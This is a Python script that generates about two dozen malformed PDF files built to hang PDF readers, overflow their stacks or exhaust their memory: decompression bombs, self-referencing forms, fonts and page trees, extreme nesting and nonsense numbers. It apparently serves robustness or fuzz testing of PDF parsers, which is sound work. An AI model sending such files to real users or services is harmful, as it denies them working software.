"""PDFs made to hang a reader, to overflow its stack or to eat its memory."""

import zlib


def pdf(objects, root=1):
    """The bytes of a PDF of these objects, which are counted from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    begin = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, begin)


def stream(data, entries=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def page(contents, resources=b"/Font<</F 5 0 R>>", more=()):
    """A page with these contents; what `more` holds is counted from 6."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<%s>>/Contents 4 0 R>>" % resources, contents,
                b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", *more])


def squeezed(data, entries=b""):
    return stream(zlib.compress(data, 6), entries + b"/Filter/FlateDecode")


def gigabyte():
    """A gigabyte of blanks, squeezed twice."""
    squeezer, million = zlib.compressobj(9), b" " * (1 << 20)
    head = squeezer.compress(million) + squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(million) + squeezer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(1024):
        check = zlib.adler32(million, check)
    once = head + block * 1023 + b"\x03\x00" + check.to_bytes(4)
    return stream(zlib.compress(once, 9), b"/Filter[/FlateDecode /FlateDecode]")


SHOW = b"BT /F 12 Tf 70 700 Td (Pressedienst) Tj ET\n"
BOMBS = {
    "content-of-a-gigabyte": lambda: page(gigabyte()),
    "words-without-end": lambda: page(squeezed(SHOW * 2_000_000)),
    "one-string-of-many-letters": lambda: page(squeezed(b"BT /F 12 Tf 70 700 Td (" + b"A" * 50_000_000 + b") Tj ET")),
    "gray-picture-of-a-gigabyte": lambda: page(stream(b"/I Do"), b"/XObject<</I 6 0 R>>", [
        squeezed(bytes(64 << 20), b"/Type/XObject/Subtype/Image/Width 32768/Height 32768/ColorSpace/DeviceGray/BitsPerComponent 8")]),
    "form-in-itself": lambda: page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", [
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")]),
    "forms-that-double": lambda: page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", [
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (at + 7)) for at in range(40)]
        + [stream(SHOW, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>")]),
    "type-3-font-in-itself": lambda: page(stream(b"BT /T 9 Tf (aa) Tj ET"), b"/Font<</T 6 0 R>>", [
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>"
        b"/CharProcs<</a 7 0 R>>/Resources<</Font<</T 6 0 R>>>>>>", stream(b"9 0 d0 BT /T 9 Tf (aa) Tj ET")]),
    "pages-in-a-loop": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 9>>"]),
    "pages-that-double": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>"] + [
        b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 9>>" % (at + 3, at + 3) for at in range(40)] + [b"<</Type/Page/MediaBox[0 0 9 9]>>"]),
    "a-page-a-million-times": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + b"3 0 R " * 1_000_000 + b"]/Count 1000000>>",
                                           b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"]),
    "pages-deep-in-pages": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>"] + [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (at + 3) for at in range(50_000)] + [b"<</Type/Page/MediaBox[0 0 9 9]>>"]),
    "arrays-deep-in-arrays": lambda: pdf([b"<</Type/Catalog/Pages " + b"[" * 500_000 + b"]" * 500_000 + b">>"]),
    "dictionaries-deep-in-content": lambda: page(stream(b"/P " + b"<</A" * 200_000 + b" BDC " + SHOW)),
    "states-never-restored": lambda: page(squeezed(b"q " * 5_000_000 + SHOW)),
    "length-is-itself": lambda: page(b"<</Length 4 0 R>>stream\n" + SHOW + b"endstream"),
    "reference-to-itself": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"2 0 R"]),
    "previous-xref-is-itself": lambda: page(stream(SHOW)).replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev 400>>"),
    "size-of-the-xref": lambda: page(stream(SHOW)).replace(b"/Size 6", b"/Size 2147483647").replace(b"xref\n0 6", b"xref\n0 2147483647"),
    "unicode-of-all-signs": lambda: page(stream(b"BT /F 9 Tf 9 9 Td <00410042> Tj ET"), b"/Font<</F 6 0 R>>", [
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 8 0 R>>",
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>",
        squeezed(b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n"
                 + b"1 beginbfrange <0000> <FFFF> <00410042004300440045> endbfrange\n" * 20_000)]),
    "numbers-without-sense": lambda: page(stream(b"BT /F 1e38 Tf 1e38 0 0 -1e38 NaN 1e38 Tm 99999999999999999999 TL 1e308 Tc (ab) Tj T* (cd) Tj ET")),
    "box-without-sense": lambda: page(stream(SHOW)).replace(b"[0 0 595 842]", b"[1e38 -1e38 NaN 0]"),
    "letters-each-in-its-place": lambda: page(squeezed(b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (a) Tj " % (at * 7919 % 595, at * 104729 % 842) for at in range(300_000)) + b"ET")),
}
